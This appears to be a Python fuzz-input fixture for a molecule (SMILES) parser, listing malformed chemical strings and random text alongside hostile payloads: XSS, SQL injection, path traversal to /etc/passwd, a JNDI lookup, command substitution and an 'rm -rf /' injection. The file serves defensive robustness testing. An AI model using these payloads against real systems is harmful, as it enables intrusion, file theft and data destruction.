"""Texts that a molecule is asked with by accident or by malice; every door is tried with the same ones."""

import random
import string

N_ODD = 2_000
HOSTILE = [
    "C" * 10_000, "C1" * 900 + "C", "(" * 1_000, "[" * 500 + "C" + "]" * 500, "C%99" * 300, "c1ccccc1" * 200,
    "[C@@H]" * 300, ".".join("C" * 1_000), "C12C3C4C5C6C7C8C9" * 100, "<script>alert(1)</script>", "\u202eCCO\u202c",
    "CCO\x00CCO", "C\nC", "\t", "\ud83d\ude00", "[2000C]", "[C+++++++++]", "[Xx]", "*" * 500, "C" + "=C=C" * 400,
    "';DROP TABLE molecules;--", "../../etc/passwd", "{{7*7}}", "%n%s%x", "N" * 1_999, "[#0]", "[#999]",
    "C1CCC2(CC1)" * 80, "O=S(=O)" * 200, "[H][H]",
    "[Na+].[Cl-]", "|c:1,2|", "CCO |c:1|", "InChI=1S/CH4/h1H4", "0" * 300,
    # rings: deep, fused, bridged, spiro, many closures on one atom, closures that never close
    "C1" * 10_000 + "C", "".join(f"C%{n:02d}" for n in range(10, 99)) * 2, "C1CC1" * 300,
    "C1C2C3C4C5C6C7C8C9C123456789",
    "c1ccc2c(c1)" * 60 + "c1ccccc1" + "2" * 60, "C1CCCCC1" + "(C1CCCCC1)" * 90, "C" + "(C" * 900 + ")" * 900,
    "[C@]12[C@]3[C@]4" * 40, "C%(100)CC%(100)", "C=1CC#1", "C" * 10_000 + "." + "[Na+]" * 10_000,
    # control characters, marks that turn the writing direction, look-alikes, characters beyond one plane
    *(f"CC{chr(code)}O" for code in (0, 1, 7, 8, 9, 10, 13, 27, 127, 0x85, 0xAD, 0x200B, 0x200F, 0x2028, 0x202E, 0x2066,
                                     0xFEFF, 0xFFFD, 0xFFFF, 0x1F600, 0xE0001)),
    "\u0421\u0421\u041e", "CC\u0301" * 400, "\u202e" * 1_500, "\U0001f468\u200d\U0001f52c", "\x1b[31mCCO\x1b[0m",
    # markup, templates, formulas, paths, commands
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "javascript:alert(1)", "![x](http://e.example/x.png)",
    "[x](javascript:alert(1))", "$\\int$", "&lt;b&gt;", "</script><script>alert(1)</script>",
    "=HYPERLINK(\"http://e.example\")",
    "@SUM(1+1)", "${jndi:ldap://e.example/a}", "`id`", "$(id)", "%00", "%2e%2e%2f", "file:///etc/passwd",
    "\\\\host\\share",
    "__import__('os').system('id')", "\"; rm -rf /", "null", "NaN", "-1", "1e309", "True", "[]", "{}",
    # valid and awkward
    "[238U]", "[13CH3][2H]", "C/C=C\\C", "[Fe+2].[O-]C(=O)C", "OB(O)c1ccccc1", "CC(=O)[O-].[Na+]", "[Li+].[AlH4-]",
    "[He]", "O", "[H+]", "[*]", "C*", "[R1]CC", "CC>>CO", "CCO |$_R1$|", "F[P-](F)(F)(F)(F)F",
    "C1=CC=CC=C1.C1=CC=CC=C1",
]


def odd(n: int = N_ODD, seed: int = 0) -> list[str]:
    """Texts of letters drawn at random: every second one of letters that SMILES are made of."""
    generator = random.Random(seed)
    smiles, anything = "CNOPSFBrClI()[]=#@+-\\/%123456789cnos.*H", string.printable + "\u00e9\u202e\u4e2d\u0301\ufeff"
    return ["".join(generator.choices(smiles if number % 2 else anything, k=generator.randint(1, 60)))
            for number in range(n)]
